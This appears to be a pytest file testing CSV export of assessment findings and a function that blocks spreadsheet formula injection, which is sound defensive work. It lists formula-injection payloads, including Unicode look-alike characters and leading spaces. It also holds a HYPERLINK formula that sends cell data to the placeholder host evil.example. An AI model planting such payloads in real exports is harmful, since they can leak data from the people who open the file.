"""Findings as CSV: one row per gap, numbered as the page and the PDF number it, critical first
in its framework, and no cell a spreadsheet would run."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import User

from assessments.models import Organisation
from assessments.results import results_for_assessment
from assessments.results.gaps_csv import GAP_COLUMNS, csv_safe, gaps_csv
from assessments.scoring.results import Results
from tests.factories import answer, answer_mini, make_assessment

DANGEROUS = [
    "=SUM(A1:A2)",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\tcmd",
    "\0x",
    "\rx",
    # fullwidth, small, super- and subscript forms, which NFKC folds to ASCII
    "\uff1dSUM(A1)",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "\ufe66SUM(A1)",
    "\ufe62SUM(A1)",
    "\ufe63SUM(A1)",
    "\ufe6bSUM(A1)",
    "\u207c1",
    "\u207a1",
    "\u208c1",
    # minus signs and dashes that NFKC leaves alone
    "\u22121",
    "\u20131",
    "\u20141",
    "\u27961",
    # after spaces, which spreadsheets skip
    " =1+1",
    "\u3000\uff1d1+1",
    "\xa0@SUM(A1)",
]


@pytest.mark.parametrize("value", DANGEROUS)
def test_cells_that_would_run_as_formulas_are_prefixed(value: str) -> None:
    assert csv_safe(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Plain text", "1.5", "", "a=b", "x+y", "周辉", " ", "\u3000", "a\uff1db", "１"]
)
def test_other_cells_are_left_alone(value: str) -> None:
    assert csv_safe(value) == value


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_gap_rows_are_defused_and_ordered_critical_first(
    mini_bank: None, organisation: Organisation, assessor: User
) -> None:
    assessment = make_assessment(organisation, assessor)
    answer_mini(assessment, assessor)
    answer(
        assessment,
        assessor,
        "mini-tier",
        "supervision",
        "no",
        note='=HYPERLINK("http://evil.example/?"&A1,"click")',
    )
    answer(assessment, assessor, "mini-maturity", "metrics", "none", note="@SUM(1)")
    text = gaps_csv(results_for_assessment(assessment))
    found = rows(text)
    assert list(found[0]) == GAP_COLUMNS
    shown = [(r["framework"], r["finding"], r["question"], r["critical"]) for r in found]
    assert shown == [
        ("mini-maturity", "1.1", "requirements", "no"),
        ("mini-maturity", "1.2", "reviews", "no"),
        ("mini-maturity", "2.1", "metrics", "no"),
        ("mini-tier", "1.1", "permit-held", "yes"),
        ("mini-tier", "1.2", "supervision", "no"),
        ("mini-gate", "1.1", "red-team", "yes"),
        ("mini-gate", "1.2", "weights-security", "no"),
    ]
    notes = {r["question"]: r["note"] for r in found}
    assert notes["supervision"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert notes["metrics"] == "'@SUM(1)"
    assert notes["requirements"] == "'=1+1"
    for row in found:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\0", "\r")), cell
    cited = {r["question"]: (r["basis"], r["cited as"]) for r in found}
    assert cited["requirements"] == (
        "stated",
        "Moës et al. state: \u201crather than retrofitting them later\u201d",
    )
    assert cited["red-team"] == (
        "policy",
        "From Anthropic's Responsible Scaling Policy, which Sellitto's essay links to",
    )
    statements = {r["question"]: r["statement"] for r in found}
    assert statements["red-team"] == "No pre-deployment red teaming for catastrophic misuse."
    why = {r["question"]: r["why it matters"] for r in found}
    assert "\u201cBefore deployment\u201d stands at Pause" in why["red-team"]
    assert "proposed Model Law" in why["permit-held"]
    assert "up to 33.3 points" in why["requirements"]  # weight 2 of 3, half-way: 100 x 2 x 0.5 / 3
    assert "周辉" in next(r["source"] for r in found if r["question"] == "permit-held")


def test_no_gaps_gives_the_header_only() -> None:
    no_gaps = Results.from_json({"gaps": [], "sources": {}})
    assert gaps_csv(no_gaps).splitlines() == [",".join(GAP_COLUMNS)]
